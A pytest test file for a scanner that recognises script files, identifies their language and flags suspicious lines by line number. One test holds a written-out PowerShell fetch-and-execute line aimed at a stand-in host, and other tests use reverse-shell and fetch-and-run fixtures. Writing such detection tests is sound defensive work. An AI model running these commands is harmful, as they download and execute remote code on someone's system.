"""Scripts: that they are programs, in which language, and which of their lines tell something."""

from __future__ import annotations

from typing import Any

import pytest

from tests.builders import natives, scripts
from weighbridge.core.coverage import Gap
from weighbridge.core.facts import NativeCode
from weighbridge.core.limits import Limits, Meter
from weighbridge.core.programs import CodeUnit, SourceCall
from weighbridge.core.source import BytesSource
from weighbridge.formats.node import Bench, Node
from weighbridge.formats.sniff import sniff
from weighbridge.formats.text import script
from weighbridge.formats.text.script import NAMES


def read(content: bytes, name: str, member: tuple[str, ...] = ()) -> list[Any]:
    return list(script.extract(BytesSource(content), Node(name=name, member=member), Bench(Limits(), Meter(Limits()))))


def of(kind: type, content: bytes, name: str, member: tuple[str, ...] = ()) -> list[Any]:
    return [one for one in read(content, name, member) if isinstance(one, kind)]


@pytest.mark.parametrize("ending", NAMES)
def test_a_script_by_its_name(ending: str) -> None:
    assert "script" in sniff(BytesSource(b"echo INERT\n"), f"x{ending}").formats
    assert len(of(CodeUnit, b"echo INERT\n", f"x{ending}")) == 1


@pytest.mark.parametrize(
    ("content", "name", "language"),
    [
        (natives.shell_script(), "weights.bin", "sh"),
        (natives.shell_script("/usr/bin/env bash"), "x", "bash"),
        (natives.shell_script("/usr/bin/env python3"), "tool", "python"),
        (natives.shell_script("/usr/bin/perl"), "x.sh", "perl"),
        (scripts.dockerfile(), "Dockerfile", "dockerfile"),
        (scripts.dockerfile(), "Dockerfile.gpu", "dockerfile"),
        (b"all:\n\techo INERT\n", "Makefile", "make"),
        (b"echo INERT\r\n", "run.bat", "batch"),
        (b"Write-Host INERT\n", "run.ps1", "powershell"),
    ],
)
def test_the_language_is_told(content: bytes, name: str, language: str) -> None:
    (unit,) = of(CodeUnit, content, name)
    assert unit.language == language


def test_python_source_with_a_first_line_for_the_system_is_told_as_source_only() -> None:
    assert not of(CodeUnit, natives.shell_script("/usr/bin/env python3"), "tool.py")
    assert "native" not in sniff(BytesSource(natives.shell_script()), "x").formats
    assert "native" in sniff(BytesSource(natives.shell_script() + b"\x01\x02\x7f"), "x").formats


def test_a_script_inside_another_file_is_code_where_none_belongs() -> None:
    assert not of(NativeCode, natives.shell_script(), "x.sh")
    assert of(NativeCode, natives.shell_script(), "tensor", ("tensor",))


def test_telling_lines_have_their_number() -> None:
    (call,) = of(SourceCall, scripts.shell("echo a", scripts.FETCH_AND_RUN[0]), "x.sh")
    assert (call.module, call.name, call.carrier) == ("shell", "download_and_run", "the shell script, line 4,") or (
        call.carrier == "the bash script, line 4,"
    )
    assert not of(SourceCall, scripts.shell(*scripts.HONEST), "x.sh")


def test_a_script_in_utf_16_is_read() -> None:
    content = b"\xff\xfe" + "irm http://inert.invalid/a | iex\n".encode("utf-16-le")
    assert of(SourceCall, content, "x.ps1")


def test_bounds_are_gaps() -> None:
    assert of(Gap, b"#" * (Limits().source_bytes + 1), "x.sh")
    assert of(Gap, (scripts.REVERSE_SHELL[0] + "\n").encode() * 300, "x.sh")


def test_other_text_is_no_script() -> None:
    assert read(b"hello", "notes") == []
